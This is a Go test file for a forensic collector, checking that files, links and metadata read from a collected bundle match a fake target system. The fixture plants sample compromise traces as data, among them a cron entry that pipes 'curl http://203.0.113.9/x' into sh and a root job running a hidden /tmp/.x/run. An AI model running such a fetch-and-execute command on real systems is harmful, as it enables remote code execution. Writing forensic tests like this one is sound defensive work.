package source

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"github.com/yingji/yingji/internal/collect"
	"github.com/yingji/yingji/internal/targetfs"
)

const passwd = "root:x:0:0:root:/root:/bin/bash\nweb:x:1000:1000::/home/web:/bin/sh\n"

// fixture builds a small target root. With extra, it also holds a file
// that no collection pattern matches and a pair of looping links (which
// fstest.TestFS cannot take: it opens every link).
func fixture(t *testing.T, extra bool) string {
	t.Helper()
	root := t.TempDir()
	write := func(name, data string, mode os.FileMode) {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), mode); err != nil {
			t.Fatal(err)
		}
		os.Chmod(p, mode) // umask
	}
	link := func(name, target string) {
		if err := os.Symlink(target, filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	write("etc/passwd", passwd, 0o644)
	write("etc/hostname", "web1\n", 0o644)
	write("etc/crontab", "* * * * * root /tmp/.x/run\n", 0o644)
	write("etc/cron.d/job", "*/5 * * * * web curl http://203.0.113.9/x|sh\n", 0o640)
	link("etc/cron.d/alt", "/etc/passwd")
	link("etc/cron.d/rel", "../hostname")
	write("var/log/syslog", "Jan  1 00:00:00 web1 sshd[1]: Accepted password for root\n", 0o640)
	if err := os.MkdirAll(filepath.Join(root, "srv/empty"), 0o755); err != nil {
		t.Fatal(err)
	}
	link("srv/etc", "/etc")
	// The collector copies var/run/utmp by that name, through the link:
	// the manifest then holds a path that is not canonical.
	write("run/utmp", "utmp records", 0o664)
	link("var/run", "/run")
	link("srv/up", "../../../../etc/hostname")
	// Ownership and times to compare with what the bundle says.
	job := filepath.Join(root, "etc/cron.d/job")
	if err := os.Chown(job, 1234, 99); err != nil {
		t.Fatal(err)
	}
	mt := time.Date(2024, 3, 4, 5, 6, 7, 123456789, time.UTC)
	if err := os.Chtimes(job, mt.Add(time.Hour), mt); err != nil {
		t.Fatal(err)
	}
	if extra {
		write("srv/data/notes.txt", "not collected\n", 0o600)
		os.Chown(filepath.Join(root, "srv/data/notes.txt"), 1000, 1000)
		os.Chtimes(filepath.Join(root, "srv/data/notes.txt"), mt.Add(2*time.Hour), mt.Add(-time.Hour))
		link("loop1", "loop2")
		link("loop2", "/loop1")
	}
	return root
}

// collectFixture collects root with collect.Run into a bundle.
func collectFixture(t *testing.T, root string) string {
	t.Helper()
	out := filepath.Join(t.TempDir(), "bundle.zip")
	res, err := collect.Run(context.Background(), collect.Options{Root: root, Output: out, NoTimeline: false})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != "complete" {
		t.Fatalf("collection %s: %s", res.Status, res.Reason)
	}
	return out
}

func TestCollectedBundle(t *testing.T) {
	root := fixture(t, true)
	out := collectFixture(t, root)
	src, err := OpenBundle(out)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	b := src.(*Bundle)

	// Collected files, directly and through links of every kind.
	for _, name := range []string{"etc/passwd", "etc/cron.d/alt", "srv/etc/passwd", "srv/etc/cron.d/alt"} {
		if got, err := src.ReadFile(name); err != nil || string(got) != passwd {
			t.Errorf("ReadFile(%q) = %q, %v", name, got, err)
		}
	}
	for _, name := range []string{"etc/cron.d/rel", "srv/up"} {
		if got, err := src.ReadFile(name); err != nil || string(got) != "web1\n" {
			t.Errorf("ReadFile(%q) = %q, %v", name, got, err)
		}
	}
	// Known from the timeline only.
	_, err = src.ReadFile("srv/data/notes.txt")
	if !errors.Is(err, ErrNotCollected) || errors.Is(err, fs.ErrNotExist) {
		t.Errorf("ReadFile(srv/data/notes.txt): %v; want ErrNotCollected and not ErrNotExist", err)
	}
	if _, err := src.ReadFile("srv/data/other"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("ReadFile(srv/data/other): %v; want ErrNotExist", err)
	}
	for _, name := range []string{"loop1", "loop2/x"} {
		if _, err := src.Stat(name); !errors.Is(err, syscall.ELOOP) {
			t.Errorf("Stat(%q): %v; want ELOOP", name, err)
		}
	}
	for _, name := range []string{"var/run/utmp", "run/utmp"} {
		if got, err := src.ReadFile(name); err != nil || string(got) != "utmp records" || b.Entry(name) == nil {
			t.Errorf("ReadFile(%q) = %q, %v", name, got, err)
		}
	}
	if got, err := src.ReadLink("srv/etc"); err != nil || got != "/etc" {
		t.Errorf("ReadLink(srv/etc) = %q, %v", got, err)
	}

	// Metadata equals the fixture's: exactly for copies (manifest), to the
	// second for what only the timeline lists.
	tfs, err := targetfs.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	defer tfs.Close()
	compare := func(name string, follow, exact bool) {
		t.Helper()
		var want, got fs.FileInfo
		var err1, err2 error
		if follow {
			want, err1 = tfs.Stat(name)
			got, err2 = src.Stat(name)
		} else {
			want, err1 = tfs.Lstat(name)
			got, err2 = src.Lstat(name)
		}
		if err1 != nil || err2 != nil {
			t.Fatalf("stat %s: %v / %v", name, err1, err2)
		}
		w, g := targetfs.StatOf(want), targetfs.StatOf(got)
		if g == nil {
			t.Fatalf("%s: Sys() = %T", name, got.Sys())
		}
		if g.Mode != w.Mode || g.UID != w.UID || g.GID != w.GID || g.Ino != w.Ino || g.Size != w.Size {
			t.Errorf("%s: mode %o uid %d gid %d ino %d size %d; fixture %o %d %d %d %d", name, g.Mode, g.UID, g.GID, g.Ino, g.Size, w.Mode, w.UID, w.GID, w.Ino, w.Size)
		}
		times := func(s *targetfs.Stat) []time.Time {
			ts := []time.Time{s.Atime, s.Mtime, s.Ctime, s.Btime}
			if !exact {
				for i := range ts {
					if !ts[i].IsZero() {
						ts[i] = ts[i].Truncate(time.Second)
					}
				}
			}
			return ts
		}
		if gt, wt := times(g), times(w); !reflect.DeepEqual(gt, wt) {
			t.Errorf("%s: times (a, m, c, b) %v; fixture %v", name, gt, wt)
		}
	}
	compare("etc/cron.d/job", true, true)
	compare("etc/passwd", true, true)
	compare("etc/cron.d/alt", false, true) // the link, from the manifest
	compare("srv/data/notes.txt", true, false)
	compare("srv/data", true, false)
	compare("srv/etc", false, false)
	compare(".", true, false)
	compare("var/run", false, false)
	compare("var/run/utmp", true, true)
	if fi, _ := src.Stat("etc/cron.d/job"); fi.Mode() != 0o640 || targetfs.StatOf(fi).UID != 1234 {
		t.Errorf("etc/cron.d/job: mode %v uid %d", fi.Mode(), targetfs.StatOf(fi).UID)
	}

	// ReadDir equals the fixture's.
	for _, dir := range []string{".", "etc", "etc/cron.d", "srv", "srv/etc", "srv/empty", "var", "var/run"} {
		want, err1 := tfs.ReadDir(dir)
		got, err2 := src.ReadDir(dir)
		if err1 != nil || err2 != nil || !reflect.DeepEqual(names(got), names(want)) {
			t.Errorf("ReadDir(%q) = %q, %v; fixture %q, %v", dir, names(got), err2, names(want), err1)
		}
	}

	if b.Entry("etc/passwd") == nil || b.Entry("srv/data/notes.txt") != nil {
		t.Error("Entry: wrong copies")
	}
	if info := b.Timeline(); !info.Present || info.Entries < 15 || info.Skipped != 0 {
		t.Errorf("Timeline() = %+v", info)
	}
	if !strings.HasPrefix(src.Describe(), "bundle "+out+" (collected ") || !strings.HasSuffix(src.Describe(), " from web1, complete)") {
		t.Errorf("Describe() = %q", src.Describe())
	}
	if _, err := src.Volatile(context.Background()); !errors.Is(err, ErrNoVolatile) {
		t.Errorf("Volatile of an image bundle: %v", err)
	}
}

// TestSameAnswers runs fstest.TestFS on a fixture read directly and on its
// bundle, where every file of the fixture was collected.
func TestSameAnswers(t *testing.T) {
	root := fixture(t, false)
	want := []string{"etc/passwd", "etc/hostname", "etc/crontab", "etc/cron.d/job", "etc/cron.d/alt", "etc/cron.d/rel",
		"var/log/syslog", "srv/empty", "srv/etc", "srv/up", "run/utmp", "var/run"}
	dir, err := OpenDir(root, false)
	if err != nil {
		t.Fatal(err)
	}
	defer dir.Close()
	if err := fstest.TestFS(dir, want...); err != nil {
		t.Errorf("directory source: %v", err)
	}
	src, err := OpenBundle(collectFixture(t, root))
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	if err := fstest.TestFS(src, want...); err != nil {
		t.Errorf("bundle source: %v", err)
	}
	// Both walks see the same names and types.
	walk := func(fsys fs.FS) []string {
		var out []string
		fs.WalkDir(fsys, ".", func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				out = append(out, p+" error")
				return nil
			}
			out = append(out, p+" "+d.Type().String())
			return nil
		})
		return out
	}
	if a, b := walk(dir), walk(src); !reflect.DeepEqual(a, b) {
		t.Errorf("walks differ:\ndir    %q\nbundle %q", a, b)
	}
}
